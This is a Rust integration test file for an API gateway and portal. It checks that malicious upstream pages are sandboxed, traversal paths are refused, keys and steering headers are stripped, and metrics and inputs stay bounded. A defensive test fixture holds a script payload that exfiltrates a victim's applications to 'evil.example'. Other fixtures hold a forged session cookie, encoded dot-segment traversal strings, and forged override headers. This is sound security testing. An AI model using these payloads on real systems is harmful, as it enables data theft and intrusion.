//! Issue 30, "trust from outside": what probes, two MCP SDKs and the OpenAPI tools found,
//! each kept fixed by a test with real processes where the finding is about them — an
//! upstream that answers a page with a script and sets cookies, the gateway on its own
//! origin, encoded dot segments, invented methods against `/metrics`, headers the
//! upstream must not see, and a multi-line event listed by the official MCP SDK.

use crate::util::{
    call, client, demo_cookie, plan, publish, server_process, wait_ready, TestApp, TestResponse,
};
use axum::body::Body;
use axum::http::Request;
use serde_json::{json, Value};
use sqlx::PgPool;

/// The page an attacker's upstream answers: a script that would read the victim's
/// applications, and cookies meant for the portal.
const PAGE: &str = "<!doctype html><script>fetch('/v1/applications').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>";

/// An upstream answering every path with [`PAGE`], a portal session cookie and an order
/// to wipe the site's data.
async fn page_upstream() -> u16 {
    let app = axum::Router::new().fallback(|| async {
        (
            [
                ("content-type", "text/html; charset=utf-8"),
                ("set-cookie", "stoa_session=attacker; Path=/"),
                ("clear-site-data", "\"cookies\""),
                ("content-security-policy", "script-src 'unsafe-inline'"),
            ],
            PAGE,
        )
    });
    crate::util::serve_upstream(app).await
}

/// The demo tenant with an API `page` on [`page_upstream`] and alice's key subscribed to
/// it on a plan without limits.
async fn page_platform(pool: &PgPool) -> (TestApp, String) {
    app::service::demo::seed::run(pool).await.expect("seed");
    let port = page_upstream().await;
    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
    publish(&app, "page", &format!("http://127.0.0.1:{port}")).await;
    plan(pool, "open", None, None).await;
    let alice = demo_cookie(&app, "alice").await;
    let (_, key, _) = client(&app, &alice, "Page reader", "page", Some("open")).await;
    (app, key)
}

/// Item 1: served from the portal's origin, an upstream's page is a sandboxed document
/// (no script runs, nothing is same-origin with the portal) and sets no cookie.
#[sqlx::test(migrations = "../migrations")]
async fn an_upstream_page_on_the_portals_origin_is_sandboxed_and_sets_no_cookie(pool: PgPool) {
    let (app, key) = page_platform(&pool).await;
    let res = call(&app, "GET", "/gw/demo/page/orders/1", Some(&key)).await;
    assert_eq!(res.status, 200, "{}", res.body);
    assert_eq!(res.body, PAGE, "the answer itself passes");
    assert_eq!(res.header("content-security-policy"), Some("sandbox"));
    assert_eq!(res.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(res.header("set-cookie"), None, "no cookie is set on the portal's origin");
    assert_eq!(res.header("clear-site-data"), None);
    // Refusals too.
    let res = call(&app, "GET", "/gw/demo/page/orders/1", None).await;
    assert_eq!((res.status.as_u16(), res.header("content-security-policy")), (401, Some("sandbox")));
}

/// Item 1: with `GATEWAY_PORT`, the gateway answers on its own origin, the portal's `/gw`
/// sends callers there (308: method and body kept), the catalog names the gateway's URL,
/// and the gateway's listener serves nothing of the portal.
#[sqlx::test(migrations = "../migrations")]
async fn the_gateway_has_an_origin_of_its_own(pool: PgPool) {
    let (_app, key) = page_platform(&pool).await;
    let gateway_port = crate::util::free_port();
    let data = tempdir();
    let (_server, portal) = server_process(
        &pool,
        data.path(),
        &[("GATEWAY_PORT", &gateway_port.to_string()), ("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")],
    );
    let gateway = format!("http://127.0.0.1:{gateway_port}");
    let http =
        reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("client");
    wait_ready(&http, &portal).await;

    let res = http
        .get(format!("{gateway}/gw/demo/page/orders/1"))
        .header("x-api-key", &key)
        .send()
        .await
        .expect("gateway");
    assert_eq!(res.status(), 200);
    assert_eq!(res.text().await.expect("body"), PAGE);

    let res = http.post(format!("{portal}/gw/demo/page/orders/1?x=1")).send().await.expect("portal");
    assert_eq!(res.status(), 308);
    assert_eq!(
        res.headers().get("location").and_then(|v| v.to_str().ok()),
        Some(format!("{gateway}/gw/demo/page/orders/1?x=1").as_str())
    );
    for path in ["/", "/login", "/v1/me", "/api/login", "/metrics"] {
        let res = http.get(format!("{gateway}{path}")).send().await.expect("gateway");
        assert_eq!(res.status(), 404, "{path} is the portal's, not the gateway's");
    }
    let (status, detail) = rest_json(&http, &format!("{portal}/v1/catalog/apis/demo/page")).await;
    assert_eq!(status, 200, "{detail}");
    let urls: Vec<&str> = detail["versions"]
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|v| v["deployments"].as_array().into_iter().flatten())
        .filter_map(|d| d["gateway_url"].as_str())
        .collect();
    assert_eq!(urls, [format!("{gateway}/gw/demo/page")], "{detail}");
}

async fn rest_json(http: &reqwest::Client, url: &str) -> (u16, Value) {
    let res = http.get(url).send().await.expect("answer");
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

fn tempdir() -> TempDir {
    let path = std::env::temp_dir().join(format!("stoa-trust-{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(&path).expect("temp dir");
    TempDir(path)
}

/// A directory removed when dropped.
struct TempDir(std::path::PathBuf);

impl TempDir {
    fn path(&self) -> &std::path::Path {
        &self.0
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// An upstream that answers every call with what it received: method, path, query and
/// every header.
async fn mirror_upstream() -> u16 {
    use axum::extract::Request as Incoming;
    let app = axum::Router::new().fallback(|req: Incoming| async move {
        let headers: serde_json::Map<String, Value> = req
            .headers()
            .iter()
            .map(|(n, v)| (n.as_str().to_owned(), json!(v.to_str().unwrap_or_default())))
            .collect();
        axum::Json(json!({
            "method": req.method().as_str(),
            "path": req.uri().path(),
            "query": req.uri().query(),
            "headers": headers,
        }))
    });
    crate::util::serve_upstream(app).await
}

/// The demo tenant with the echo document on [`mirror_upstream`] (`/base`), and alice's
/// subscribed key.
async fn mirror_platform(pool: &PgPool) -> (TestApp, String) {
    app::service::demo::seed::run(pool).await.expect("seed");
    let port = mirror_upstream().await;
    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
    publish(&app, "mirror", &format!("http://127.0.0.1:{port}/base")).await;
    plan(pool, "open", None, None).await;
    let alice = demo_cookie(&app, "alice").await;
    let (_, key, _) = client(&app, &alice, "Mirror", "mirror", Some("open")).await;
    (app, key)
}

fn json_of(res: &TestResponse) -> Value {
    serde_json::from_str(&res.body).unwrap_or(Value::Null)
}

/// Item 4: a dot segment in any spelling, or a separator hidden in a segment, is refused
/// before matching; it never reaches the upstream under a declared operation's name.
#[sqlx::test(migrations = "../migrations")]
async fn encoded_dot_segments_never_leave_the_registered_path(pool: PgPool) {
    let (app, key) = mirror_platform(&pool).await;
    let ok = call(&app, "GET", "/gw/demo/mirror/orders/7", Some(&key)).await;
    assert_eq!(json_of(&ok)["path"], "/base/orders/7", "{}", ok.body);
    for path in [
        "/orders/%2e%2e",
        "/orders/%2E%2E",
        "/orders/.%2e",
        "/orders/%2e.",
        "/orders/%2e",
        "/orders/..%2f..",
        "/orders/a%2Fb",
        "/orders/a%5Cb",
    ] {
        let res = call(&app, "GET", &format!("/gw/demo/mirror{path}"), Some(&key)).await;
        assert_eq!(
            (res.status.as_u16(), json_of(&res)["error"].clone()),
            (404, json!("unknown_operation")),
            "{path}: {}",
            res.body
        );
    }
}

/// Item 7: what the upstream must not see — headers named in `Connection`, method and URL
/// overrides, client addresses and proxies set by the caller, forged call and request ids
/// — and the key itself wherever else the caller sent it.
#[sqlx::test(migrations = "../migrations")]
async fn the_upstream_sees_neither_the_key_nor_headers_that_would_steer_it(pool: PgPool) {
    let (app, key) = mirror_platform(&pool).await;
    let req = Request::get(format!("/gw/demo/mirror/orders/7?k={key}&page=2&token=Bearer%20{key}"))
        .header("x-api-key", &key)
        .header("authorization", format!("Bearer {key}"))
        .header("connection", "keep-alive, X-Secret-Hop")
        .header("x-secret-hop", "one hop only")
        .header("x-http-method-override", "DELETE")
        .header("x-original-url", "/admin")
        .header("x-rewrite-url", "/admin")
        .header("x-real-ip", "10.0.0.1")
        .header("true-client-ip", "10.0.0.1")
        .header("via", "1.1 forged")
        .header("x-stoa-call-id", "forged-call")
        .header("x-request-id", "forged-request")
        .header("x-kept", "yes")
        .body(Body::empty())
        .expect("request");
    let res = app.send(req).await;
    assert_eq!(res.status, 200, "{}", res.body);
    let seen = json_of(&res);
    assert!(!res.body.contains(&key), "the key reached the upstream: {}", res.body);
    assert_eq!(seen["query"], "page=2", "{seen}");
    let headers = seen["headers"].as_object().expect("headers");
    for name in [
        "x-api-key",
        "authorization",
        "connection",
        "x-secret-hop",
        "x-http-method-override",
        "x-original-url",
        "x-rewrite-url",
        "x-real-ip",
        "true-client-ip",
        "via",
        "x-stoa-call-id",
    ] {
        assert!(!headers.contains_key(name), "{name} reached the upstream: {seen}");
    }
    assert_eq!(headers["x-kept"], "yes", "other headers pass");
    let request_id = headers["x-request-id"].as_str().expect("the gateway's own request id");
    assert_ne!(request_id, "forged-request");
    assert_eq!(res.header("x-request-id"), Some(request_id), "the caller learns the id the upstream saw");
}

/// Item 5: `/metrics` is bounded whatever methods callers invent: 500 random methods and
/// one of 16 000 characters add one `other` series, and no method is printed as sent.
#[sqlx::test(migrations = "../migrations")]
async fn invented_methods_add_no_series_to_metrics(pool: PgPool) {
    let app = TestApp::new(pool);
    let before = app.get("/metrics", &[]).await.body;
    let long = "M".repeat(16_000);
    for i in 0..500 {
        let method = if i == 0 { long.clone() } else { format!("X{}", uuid::Uuid::new_v4().simple()) };
        let req = Request::builder()
            .method(method.as_str())
            .uri("/gw/demo/x/y")
            .body(Body::empty())
            .expect("request");
        app.send(req).await;
        let req =
            Request::builder().method(method.as_str()).uri("/nowhere").body(Body::empty()).expect("request");
        app.send(req).await;
    }
    let after = app.get("/metrics", &[]).await.body;
    assert!(!after.contains("MMMMMMMM") && !after.contains("method=\"X"), "a method as sent: {after}");
    let series = |text: &str| text.lines().filter(|l| l.starts_with("stoa_http_requests_total")).count();
    assert!(
        series(&after) <= series(&before) + 4,
        "{} series before, {} after:\n{after}",
        series(&before),
        series(&after)
    );
    assert!(after.contains("method=\"other\""), "{after}");
    assert!(after.contains("# TYPE stoa_metering_events_recorded counter"), "{after}");
}

/// A real MCP server (streamable HTTP) that answers with server-sent events and writes
/// its `tools/list` result over several `data:` lines, as the SSE specification allows:
/// no line alone is JSON.
async fn multiline_mcp_upstream() -> u16 {
    use axum::extract::Request as Incoming;
    let app = axum::Router::new().fallback(|req: Incoming| async move {
        if req.method() != axum::http::Method::POST {
            return (
                axum::http::StatusCode::METHOD_NOT_ALLOWED,
                [("content-type", "text/plain")],
                String::new(),
            );
        }
        let body = axum::body::to_bytes(req.into_body(), 1 << 20).await.unwrap_or_default();
        let message: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        let Some(id) = message.get("id").cloned() else {
            // A notification.
            return (axum::http::StatusCode::ACCEPTED, [("content-type", "text/plain")], String::new());
        };
        let result = match message["method"].as_str() {
            Some("initialize") => json!({
                "protocolVersion": message["params"]["protocolVersion"].as_str().unwrap_or("2025-06-18"),
                "capabilities": { "tools": {} },
                "serverInfo": { "name": "forecasts", "version": "1.0.0" } }),
            Some("tools/list") => json!({ "tools": [
                { "name": "get_forecast", "inputSchema": { "type": "object" } },
                { "name": "admin_reset", "inputSchema": { "type": "object" } } ] }),
            _ => json!({}),
        };
        let text = json!({ "jsonrpc": "2.0", "id": id, "result": result }).to_string();
        // Cut the JSON after its first commas (no string holds one): each piece its own
        // `data:` line of one event; the reader joins them with line feeds.
        let events = format!("event: message\ndata: {}\n\n", text.replacen(',', ",\ndata: ", 3));
        (axum::http::StatusCode::OK, [("content-type", "text/event-stream")], events)
    });
    crate::util::serve_upstream(app).await
}

/// Item 3: the official MCP TypeScript SDK lists, through the gateway, only the tools the
/// subscription grants — also when the server writes its answer over several `data:`
/// lines (which the gateway once passed on unfiltered).
#[sqlx::test(migrations = "../migrations")]
async fn the_official_mcp_sdk_lists_only_granted_tools_from_multi_line_events(pool: PgPool) {
    app::service::demo::seed::run(&pool).await.expect("seed");
    let port = multiline_mcp_upstream().await;
    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
    let dave = demo_cookie(&app, "dave").await;
    let tools = json!([
        { "name": "get_forecast", "description": "A forecast", "inputSchema": { "type": "object" } },
        { "name": "admin_reset", "description": "Reset", "inputSchema": { "type": "object" } }
    ]);
    let body = json!({ "name": "Forecasts", "slug": "forecasts", "tools": tools,
                       "remote_url": format!("http://127.0.0.1:{port}/mcp") });
    let (status, out) = crate::util::json_call(&app, "POST", "/v1/mcp/servers", Some(&dave), body).await;
    assert_eq!(status, 201, "{out}");
    let alice = demo_cookie(&app, "alice").await;
    let body = json!({ "server_id": "forecasts", "plan": "free", "requested_tools": ["get_forecast"] });
    let (status, created) =
        crate::util::json_call(&app, "POST", "/v1/mcp/subscriptions", Some(&alice), body).await;
    assert_eq!((status, created["state"].as_str()), (201, Some("active")), "{created}");
    let key = created["api_key"].as_str().expect("key").to_owned();
    // The gateway on a real socket, for a client in another process.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let gateway = listener.local_addr().expect("addr");
    let router = app.router.clone();
    tokio::spawn(async move { axum::serve(listener, router).await.expect("gateway") });
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/../end2end/mcp/list-tools.mjs");
    let out = tokio::process::Command::new("node")
        .arg(script)
        .arg(format!("http://{gateway}/gw/mcp/forecasts"))
        .arg(&key)
        .current_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/.."))
        .output()
        .await
        .expect("node runs the MCP SDK's client");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}\n{}", String::from_utf8_lossy(&out.stderr));
    let listed: Vec<String> = serde_json::from_str(stdout.trim()).expect("tool names");
    assert_eq!(listed, ["get_forecast"], "the SDK listed a tool the subscription does not grant");
}

/// A CA of the test's own and a certificate it signed for 127.0.0.1 and localhost.
struct OwnCa {
    ca: rcgen::Certificate,
    leaf: rcgen::Certificate,
    leaf_key: rcgen::KeyPair,
}

fn own_ca() -> OwnCa {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair};
    let ca_key = KeyPair::generate().expect("CA key");
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).expect("CA params");
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca = ca_params.self_signed(&ca_key).expect("CA");
    let leaf_key = KeyPair::generate().expect("leaf key");
    let leaf = CertificateParams::new(vec!["127.0.0.1".to_owned(), "localhost".to_owned()])
        .expect("leaf params")
        .signed_by(&leaf_key, &ca, &ca_key)
        .expect("leaf");
    OwnCa { ca, leaf, leaf_key }
}

/// An HTTPS upstream on 127.0.0.1 whose certificate a CA of the test's own signed:
/// (its port, the CA's certificate in PEM). It answers every path with a small JSON.
async fn https_upstream_of_own_ca() -> (u16, String) {
    let OwnCa { ca, leaf, leaf_key } = own_ca();
    let key = rustls::pki_types::PrivateKeyDer::try_from(leaf_key.serialize_der()).expect("key der");
    let config = rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .expect("versions")
    .with_no_client_auth()
    .with_single_cert(vec![leaf.der().clone()], key)
    .expect("server config");
    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
    let app = axum::Router::new().fallback(|| async { axum::Json(json!({ "over": "tls" })) });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let port = listener.local_addr().expect("addr").port();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, app) = (acceptor.clone(), app.clone());
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else { return };
                let service = hyper_util::service::TowerToHyperService::new(app);
                let _ = hyper_util::server::conn::auto::Builder::new(hyper_util::rt::TokioExecutor::new())
                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                    .await;
            });
        }
    });
    (port, ca.pem())
}

/// Item 10: an upstream signed by an in-house CA is reached once the platform trusts that
/// CA (here `SSL_CERT_FILE`, read by the platform roots' loader): the gateway's client
/// uses the platform's roots, not only the bundled web roots.
#[sqlx::test(migrations = "../migrations")]
async fn an_upstream_signed_by_an_in_house_ca_is_reached_through_the_platforms_roots(pool: PgPool) {
    app::service::demo::seed::run(&pool).await.expect("seed");
    let (port, ca_pem) = https_upstream_of_own_ca().await;
    let app = TestApp::with_env(pool.clone(), &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32")]);
    publish(&app, "tls", &format!("https://127.0.0.1:{port}")).await;
    plan(&pool, "open", None, None).await;
    let alice = demo_cookie(&app, "alice").await;
    let (_, key, _) = client(&app, &alice, "TLS client", "tls", Some("open")).await;
    let data = tempdir();
    let ca_file = data.path().join("in-house-ca.pem");
    std::fs::write(&ca_file, ca_pem).expect("CA file");
    let ca_file = ca_file.to_string_lossy().into_owned();
    let (_server, portal) = server_process(
        &pool,
        data.path(),
        &[("TRY_IT_ALLOWED_NETWORKS", "127.0.0.1/32"), ("SSL_CERT_FILE", ca_file.as_str())],
    );
    let http = reqwest::Client::new();
    wait_ready(&http, &portal).await;
    let res = http
        .get(format!("{portal}/gw/demo/tls/orders/1"))
        .header("x-api-key", &key)
        .send()
        .await
        .expect("gateway");
    let status = res.status();
    let body = res.text().await.expect("body");
    assert_eq!(status, 200, "{body}");
    assert_eq!(serde_json::from_str::<Value>(&body).expect("json"), json!({ "over": "tls" }));
}

/// Writes `contents` where the cluster's `postgres` user owns it, readable by it alone
/// (Postgres refuses a key others can read); as root the file is handed to `postgres`.
fn write_for_postgres(path: &std::path::Path, contents: &[u8]) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, contents).expect("write");
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o600)).expect("mode");
    let whoami = std::process::Command::new("id").arg("-u").output().expect("id -u");
    if String::from_utf8_lossy(&whoami.stdout).trim() == "0" {
        let status = std::process::Command::new("chown").arg("postgres:").arg(path).status().expect("chown");
        assert!(status.success(), "chown {}", path.display());
    }
}

/// Item 10: against a Postgres that takes only TLS connections (`ssl = on` with a
/// certificate the test's own CA signed, `hostnossl … reject`), the server migrates and
/// seeds with `sslmode=verify-full`, and its pool's connections are encrypted; a plain
/// connection is refused, and so is a certificate the client's roots do not hold.
#[tokio::test]
async fn postgres_requiring_tls_is_reached_with_verify_full() {
    let pg = crate::util::OwnPostgres {
        dir: std::env::temp_dir().join(format!("stoa-pg-tls-{}", uuid::Uuid::new_v4())),
        port: crate::util::free_port(),
    };
    pg.pg("start");
    pg.pg("stop");
    let data = pg.dir.join("data");
    let OwnCa { ca, leaf, leaf_key } = own_ca();
    write_for_postgres(&data.join("server.crt"), leaf.pem().as_bytes());
    write_for_postgres(&data.join("server.key"), leaf_key.serialize_pem().as_bytes());
    let mut conf = std::fs::read_to_string(data.join("postgresql.conf")).expect("postgresql.conf");
    conf.push_str("\nssl = on\nssl_cert_file = 'server.crt'\nssl_key_file = 'server.key'\n");
    std::fs::write(data.join("postgresql.conf"), conf).expect("postgresql.conf");
    let hba = "local all all trust\nhostssl all all 127.0.0.1/32 trust\nhostnossl all all 0.0.0.0/0 reject\n";
    std::fs::write(data.join("pg_hba.conf"), hba).expect("pg_hba.conf");
    pg.pg("start");

    let roots = pg.dir.join("root.crt");
    std::fs::write(&roots, ca.pem()).expect("root.crt");
    let url = format!("{}?sslmode=verify-full&sslrootcert={}", pg.url(), roots.display());
    // The product itself: `server seed` migrates and seeds over TLS.
    let seeded = std::process::Command::new(env!("CARGO_BIN_EXE_server"))
        .arg("seed")
        .env("DATABASE_URL", &url)
        .env("RUST_LOG", "warn")
        .stdout(std::process::Stdio::null())
        .output()
        .expect("seed");
    assert!(seeded.status.success(), "{}", String::from_utf8_lossy(&seeded.stderr));
    let owner = app::db::owner_pool(&url).await.expect("the owner's connection over TLS");
    let (encrypted, tenants): (bool, i64) = sqlx::query_as(
        "SELECT ssl, (SELECT count(*) FROM tenants) FROM pg_stat_ssl WHERE pid = pg_backend_pid()",
    )
    .fetch_one(&owner)
    .await
    .expect("a query over TLS");
    assert!(encrypted, "the connection is not encrypted");
    assert!(tenants > 0, "the seed wrote nothing");
    // The application's pool (as its role) over the same URL.
    let pool = app::db::pool(&url, 2).expect("pool");
    let one: i32 = sqlx::query_scalar("SELECT 1").fetch_one(&pool).await.expect("the app's pool over TLS");
    assert_eq!(one, 1);

    // A plain connection is refused by the server; a CA the client does not hold, by the
    // client.
    let plain = format!("{}?sslmode=disable", pg.url());
    assert!(app::db::owner_pool(&plain).await.is_err(), "a connection without TLS was accepted");
    let stranger = pg.dir.join("stranger.crt");
    std::fs::write(&stranger, own_ca().ca.pem()).expect("stranger.crt");
    let unverified = format!("{}?sslmode=verify-full&sslrootcert={}", pg.url(), stranger.display());
    assert!(app::db::owner_pool(&unverified).await.is_err(), "a certificate of another CA was accepted");
}

/// Item 9: an address that asked about more unknown keys this minute than allowed gets
/// 429 for its next unknown key, before the database is asked; a key in use (in memory,
/// or of a prefix that verified lately) is still answered, and another address is not
/// held back.
#[sqlx::test(migrations = "../migrations")]
async fn unknown_keys_past_the_limit_per_address_are_refused_before_the_database(pool: PgPool) {
    app::service::demo::seed::run(&pool).await.expect("seed");
    let app = TestApp::new(pool.clone());
    let alice = demo_cookie(&app, "alice").await;
    let (_, key, _) = client(&app, &alice, "Flooded", "weather-forecast", Some("free")).await;
    let data = tempdir();
    let (_server, portal) = server_process(&pool, data.path(), &[("KEY_VERIFY_UNKNOWN_PER_MINUTE", "5")]);
    let http = reqwest::Client::new();
    wait_ready(&http, &portal).await;
    let verify = |key: String| {
        let (http, portal) = (http.clone(), portal.clone());
        async move {
            let res = http.post(format!("{portal}/v1/keys/verify")).json(&json!({ "key": key })).send().await;
            let res = res.expect("verify");
            let status = res.status().as_u16();
            (status, res.json::<Value>().await.expect("json"))
        }
    };
    let (status, out) = verify(key.clone()).await;
    assert_eq!((status, out["valid"].as_bool()), (200, Some(true)), "{out}");
    for n in 0..5 {
        let (status, out) = verify(format!("stoa_sk_unknown{n:037}")).await;
        assert_eq!((status, out["valid"].as_bool()), (200, Some(false)), "{out}");
    }
    let (status, out) = verify("stoa_sk_unknown-one-too-many-00000000000000000000000".to_owned()).await;
    assert_eq!((status, out["code"].as_str()), (429, Some("too_many_requests")), "{out}");
    let (status, out) = verify(key.clone()).await;
    assert_eq!((status, out["valid"].as_bool()), (200, Some(true)), "the key in use was refused: {out}");
    // Once its answer has left memory, the key in use is still looked up (its prefix
    // verified lately); a key this address never verified waits for the next minute.
    tokio::time::sleep(app::keycache::TTL + std::time::Duration::from_millis(300)).await;
    let (status, out) = verify(key.clone()).await;
    assert_eq!((status, out["valid"].as_bool()), (200, Some(true)), "the key in use was refused: {out}");
    let (_, other_key, _) = client(&app, &alice, "Never verified", "weather-forecast", Some("free")).await;
    assert_eq!(verify(other_key).await.0, 429);
    // Another address (127.0.0.2 is loopback too) still has its own allowance.
    let other = reqwest::Client::builder()
        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
        .build()
        .expect("client");
    let res = other
        .post(format!("{portal}/v1/keys/verify"))
        .json(&json!({ "key": "stoa_sk_unknown-from-elsewhere-000000000000000000000" }))
        .send()
        .await
        .expect("verify");
    assert_eq!(res.status(), 200);
}

/// Item 6: without the gateway, the demo backends only let anyone read the public weather
/// backend, so many times per address and minute; the internal CRM's customers, its
/// writes and the partner-only payments MCP server's tools are not there.
#[sqlx::test(migrations = "../migrations")]
async fn the_demo_backends_directly_only_read_the_public_weather_backend(pool: PgPool) {
    app::service::demo::seed::run(&pool).await.expect("seed");
    let data = tempdir();
    let (_server, portal) = server_process(&pool, data.path(), &[]);
    let http = reqwest::Client::new();
    wait_ready(&http, &portal).await;
    let at = |path: &str| format!("{portal}/demo-backends/{path}");
    let res = http.get(at("crm/v1/customers")).send().await.expect("crm");
    assert_eq!(res.status(), 404, "the internal CRM's customers are listed");
    let res =
        http.post(at("crm/v1/customers")).json(&json!({ "name": "X", "email": "x@example.com" })).send();
    assert_eq!(res.await.expect("crm write").status(), 404);
    let list = json!({ "jsonrpc": "2.0", "id": 1, "method": "tools/list" });
    let res = http.post(at("mcp/payments")).json(&list).send().await.expect("mcp");
    assert_eq!(res.status(), 404, "the partner-only MCP tools are listed");
    let res = http.post(at("weather/v1/places")).json(&json!({})).send().await.expect("weather write");
    assert_eq!(res.status(), 405);
    assert_eq!(res.headers().get("allow").and_then(|v| v.to_str().ok()), Some("GET, HEAD"));
    // Reads of the weather backend, up to the limit per address and minute.
    let limit = app::service::demo::backends::DIRECT_READS_PER_MINUTE;
    for n in 0..limit {
        let res = http.get(at("weather/v1/places?q=par")).send().await.expect("weather");
        assert_eq!(res.status(), 200, "read {n}");
    }
    let res = http.get(at("weather/v1/places?q=par")).send().await.expect("weather");
    assert_eq!(res.status(), 429);
    // The CRM's records are still there for the gateway's callers (nothing was written).
    let (status, customers) = TestApp::new(pool.clone())
        .gateway
        .in_process_answer("GET", "/demo-backends/crm/v1/customers", Some("q=x@example.com"), &[])
        .await
        .expect("crm");
    assert_eq!(status, 200);
    assert!(!customers.to_string().contains("x@example.com"), "{customers}");
}

/// Item 8: U+0000 — in page paths and queries, in server-function fields, inside
/// free-form JSON (MCP tools' input schemas, keys and values) and OpenAPI documents (JSON,
/// and YAML's `"\0"`) — is the caller's mistake: a 4xx, never a 500, and nothing is
/// written. Server functions answer unreadable input (no password, a 3 MB body) 400.
#[sqlx::test(migrations = "../migrations")]
async fn nul_characters_and_unreadable_input_are_the_callers_mistake(pool: PgPool) {
    app::service::demo::seed::run(&pool).await.expect("seed");
    let app = TestApp::new(pool.clone());
    let carl = demo_cookie(&app, "carl").await;
    let alice = demo_cookie(&app, "alice").await;
    let pages = [
        "/apis/demo/%00",
        "/apis/%00/x",
        "/catalog?tag=a%00",
        "/catalog?q=a%00",
        "/catalog?category=%00",
        "/mcp/%00",
        "/apps/%00",
        "/console/audit?actor=a%00",
        "/console/audit?action=a%00",
        "/console/requests/%00",
        "/console/requests?state=%00",
        "/onboarding/%00",
        "/usage?app=%00",
        "/console/usage?tenant=%00",
        "/invitations/%00",
        "/console/subscriptions?state=%00",
        "/apis/demo/weather-forecast?version=%00",
        "/v1/catalog?q=%00",
        "/v1/applications/%00",
    ];
    for path in pages {
        for cookie in [&carl, &alice] {
            let res = app.get(path, &[("cookie", cookie.as_str())]).await;
            assert!(res.status.is_client_error() || res.status.is_success(), "GET {path}: {}", res.status);
        }
    }
    let res = app
        .send(
            Request::post("/gw/mcp/%00")
                .header("content-type", "application/json")
                .body(Body::from("{}"))
                .expect("req"),
        )
        .await;
    assert_eq!(res.status, 404, "{}", res.body);

    // Server functions, called as the page's script calls them (no HTML Accept).
    let login = |form: String| {
        let req = Request::post("/api/login").header("content-type", "application/x-www-form-urlencoded");
        app.send(req.body(Body::from(form)).expect("req"))
    };
    for form in ["username=a%00&password=b&next=%2F".to_owned(), "username=alice&next=%2F".to_owned()] {
        let res = login(form.clone()).await;
        assert_eq!(res.status, 400, "{form}: {}", res.body);
    }
    let res = login(format!("username=alice&password={}&next=%2F", "a".repeat(3_000_000))).await;
    assert!(res.status.is_client_error(), "a 3 MB sign-in: {}", res.status);

    // Form posts without JavaScript: the subscribe and decide forms, try-it.
    let forms = [
        ("/subscribe", "kind=api&tenant=demo&slug=weather%00&application=x%00&plan=free%00&ttl_days="),
        ("/subscribe", "kind=api&tenant=de%00mo&slug=weather-forecast&application=&plan=free&ttl_days="),
        ("/console/subscriptions/decide", "id=%00&action=reject&reason=a%00aaaaaaaaaaa&state=pending"),
        ("/try-it", "tenant=demo&api=weather%00&version=1.1.0&environment=prod&method=get&path=%2F&op=x"),
    ];
    for (path, form) in forms {
        let res = app.post_form(path, form, &[("cookie", carl.as_str())]).await;
        assert!(res.status.as_u16() < 500, "POST {path} {form}: {} {}", res.status, res.body);
    }

    let dave = demo_cookie(&app, "dave").await;
    let schema_value = json!({ "type": "object", "x": "a\u{0}" });
    let schema_key = json!({ "type": "object", "properties": { "x\u{0}": { "type": "string" } } });
    for (slug, schema) in [("nul-value", schema_value), ("nul-key", schema_key)] {
        let tools = json!([{ "name": "t", "description": "d", "inputSchema": schema }]);
        let body =
            json!({ "name": "Nul", "slug": slug, "tools": tools, "remote_url": "http://127.0.0.1:9/mcp" });
        let (status, out) = crate::util::json_call(&app, "POST", "/v1/mcp/servers", Some(&dave), body).await;
        assert_eq!(status, 400, "{slug}: {out}");
    }
    let json_doc =
        json!({ "openapi": "3.0.3", "info": { "title": "T\u{0}", "version": "1" }, "paths": {} }).to_string();
    let yaml_doc = "openapi: 3.0.3\ninfo:\n  title: \"T\\0\"\n  version: '1'\npaths: {}\n".to_owned();
    for (slug, doc) in [("nul-json", json_doc), ("nul-yaml", yaml_doc)] {
        let body = json!({ "name": "Nul", "slug": slug, "document": doc, "publish": true, "environments": ["prod"] });
        let (status, out) = crate::util::json_call(&app, "POST", "/v1/catalog/apis", Some(&dave), body).await;
        assert_eq!(status, 400, "{slug}: {out}");
    }
    let written: i64 = sqlx::query_scalar("SELECT count(*) FROM catalog_items WHERE slug LIKE 'nul-%'")
        .fetch_one(&pool)
        .await
        .expect("count");
    assert_eq!(written, 0, "half-written entries");
}
